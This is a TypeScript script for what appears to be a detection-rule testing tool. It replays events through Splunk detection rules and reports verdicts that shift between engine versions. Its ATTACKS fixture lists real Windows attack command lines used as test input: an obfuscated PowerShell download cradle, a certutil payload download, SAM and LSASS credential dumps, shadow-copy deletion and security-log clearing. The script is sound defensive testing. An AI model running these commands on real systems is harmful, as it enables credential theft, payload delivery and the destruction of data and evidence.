/**
 * `npx tsx scripts/verdicts.ts record FILE` / `… compare FILE`: a verdict-safety check for
 * changes to the engine. Prints figures, asserts nothing.
 *
 * `record` loads the Splunk rules of ../shared/corpora/security_content and content/ (or
 * CATALOG_CONTENT), builds a fixed set of events — the generated example event of every rule the
 * tester can build one for, and a few attack command lines as built process events — runs every
 * event through the tester (matchEvent) and writes the events and every rule's verdict
 * (fires / undecided / does not fire) to FILE. `compare` re-runs the same events with the
 * current engine (built command lines also get the add-on fields the data sources now give
 * them) and prints how many verdicts moved, by kind: a fire/no-fire verdict that changed must be
 * explained; undecided → decided is the progress expected from a new capability. Every move is
 * written to FILE.moves.json.
 */
import { existsSync, readFileSync, writeFileSync } from "node:fs"

import { addAddOnFields } from "../lib/events/addon.ts"
import { buildProcessEvents, type ProcessInput } from "../lib/events/process.ts"
import { loadCatalog } from "../lib/catalog/load.node.ts"
import type { Event } from "../lib/predicate/types.ts"
import { exampleEvent } from "../lib/tester/example-event.ts"
import { compileCatalog, matchEvent, type TesterInput } from "../lib/tester/match.ts"
import { TESTER_CASES } from "./bench/tester.ts"

const [mode, file] = process.argv.slice(2)
if ((mode !== "record" && mode !== "compare") || !file) {
  console.error("usage: verdicts.ts record|compare FILE")
  process.exit(2)
}
const roots = (process.env.CATALOG_CONTENT ?? "../shared/corpora/security_content,content").split(",")
if (!existsSync(roots[0] ?? "")) {
  console.log(`verdicts: ${roots[0]} is absent; nothing to check`)
  process.exit(0)
}

/** Attack command lines beyond the bench's cases: obfuscation, registry hive dumps, discovery. */
const ATTACKS: ProcessInput[] = [
  {
    cmd: "powershell.exe -nop -c I`E`X (N`e`w-O`b`j`e`c`t Net.WebClient).DownloadString('http://x/a')",
    parent: "cmd.exe",
  },
  { cmd: "reg save HKLM\\SAM C:\\Users\\Public\\sam.save", parent: "cmd.exe", user: "CORP\\bob", host: "ws-7" },
  { cmd: "a.exe /c whoami", parent: "explorer.exe" },
  { cmd: "certutil.exe -urlcache -split -f http://198.51.100.4/p.exe C:\\Temp\\p.exe", parent: "cmd.exe" },
  { cmd: "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 624 C:\\Temp\\l.dmp full", parent: "cmd.exe" },
  { cmd: "vssadmin.exe delete shadows /all /quiet", parent: "cmd.exe" },
  { cmd: "net.exe user /domain", parent: "cmd.exe" },
  { cmd: "schtasks.exe /create /tn upd /tr C:\\Users\\Public\\u.exe /sc minute /mo 5", parent: "cmd.exe" },
  {
    cmd: 'mshta.exe vbscript:Execute("CreateObject(""Wscript.Shell"").Run ""powershell"", 0:close")',
    parent: "winword.exe",
  },
  { cmd: "wevtutil.exe cl Security", parent: "cmd.exe" },
]

type Saved = { events: Array<{ label: string; input: TesterInput }>; verdicts: Record<string, string>[] }

const catalog = loadCatalog({ roots })
const splunk = catalog.detections.filter((d) => d.format === "splunk")
let events: Saved["events"]
if (mode === "record") {
  events = []
  for (const d of splunk) {
    const ex = exampleEvent(d)
    if ("event" in ex) events.push({ label: `example ${d.id}`, input: { event: ex.event as Event } })
  }
  for (const [label, input] of TESTER_CASES) events.push({ label, input: { built: buildProcessEvents(input) } })
  for (const input of ATTACKS) events.push({ label: input.cmd, input: { built: buildProcessEvents(input) } })
} else {
  events = (JSON.parse(readFileSync(file, "utf8")) as Saved).events
  // The same command lines as the current engine builds them: recorded shapes get the add-on
  // fields the content's data sources now give them (lib/events/addon.ts; existing fields win).
  for (const { input } of events)
    if ("built" in input) for (const [shape, e] of Object.entries(input.built.shapes)) addAddOnFields(shape, e)
}

const compiled = compileCatalog(splunk)
const verdicts = events.map(({ input }) => {
  const r = matchEvent(compiled, input, { nearMisses: false })
  const out: Record<string, string> = {}
  for (const f of r.fired) out[f.id] = "fires"
  for (const u of r.undecided) out[u.id] ??= "undecided"
  return out
})
const verdictCount = (v: Record<string, string>[], kind: string) =>
  v.reduce((n, m) => n + Object.values(m).filter((x) => x === kind).length, 0)
console.log(
  `${splunk.length} Splunk rules, ${events.length} events: fires ${verdictCount(verdicts, "fires")}, undecided ${verdictCount(verdicts, "undecided")}`,
)
if (mode === "record") {
  writeFileSync(file, JSON.stringify({ events, verdicts } satisfies Saved))
  process.exit(0)
}
const before = (JSON.parse(readFileSync(file, "utf8")) as Saved).verdicts
const moves = new Map<string, number>()
const examples = new Map<string, string[]>()
const all: Array<{ move: string; rule: string; event: string }> = []
verdicts.forEach((after, i) => {
  const was = before[i] ?? {}
  for (const id of new Set([...Object.keys(was), ...Object.keys(after)])) {
    const a = was[id] ?? "does not fire"
    const b = after[id] ?? "does not fire"
    if (a === b) continue
    const k = `${a} → ${b}`
    moves.set(k, (moves.get(k) ?? 0) + 1)
    all.push({ move: k, rule: id, event: events[i]?.label ?? "" })
    const list = examples.get(k) ?? []
    if (list.length < 5) list.push(`${id} on ${events[i]?.label.slice(0, 60)}`)
    examples.set(k, list)
  }
})
const changed = (moves.get("fires → does not fire") ?? 0) + (moves.get("does not fire → fires") ?? 0)
const toUndecided = (moves.get("fires → undecided") ?? 0) + (moves.get("does not fire → undecided") ?? 0)
const decided = (moves.get("undecided → fires") ?? 0) + (moves.get("undecided → does not fire") ?? 0)
console.log(`changed fire/no-fire: ${changed}; undecided→decided: ${decided}; decided→undecided: ${toUndecided}`)
for (const [k, n] of moves) console.log(`  ${k}: ${n}  e.g. ${(examples.get(k) ?? []).join("; ")}`)
writeFileSync(`${file}.moves.json`, JSON.stringify(all, null, 1))
console.log(`every move: ${file}.moves.json`)
